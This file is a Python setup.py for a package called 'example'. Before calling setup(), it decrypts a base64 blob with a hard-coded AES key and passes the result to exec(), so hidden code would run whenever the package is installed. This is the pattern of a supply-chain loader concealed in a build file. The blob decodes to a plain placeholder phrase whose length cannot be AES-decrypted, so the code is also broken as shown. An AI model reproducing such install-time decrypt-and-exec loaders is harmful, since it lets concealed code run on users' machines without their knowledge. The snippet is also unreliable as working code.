import base64
from Crypto.Cipher import AES
from Crypto.Util.Padding import unpad
from setuptools import setup
box = AES.new(b'0123456789abcdef', AES.MODE_CBC, b'abcdef0123456789')
exec(unpad(box.decrypt(base64.b64decode('bm90IHJlYWxseSBlbmNyeXB0ZWQgYXQgYWxsIQ==')), 16))
setup(name='example', version='1.0')
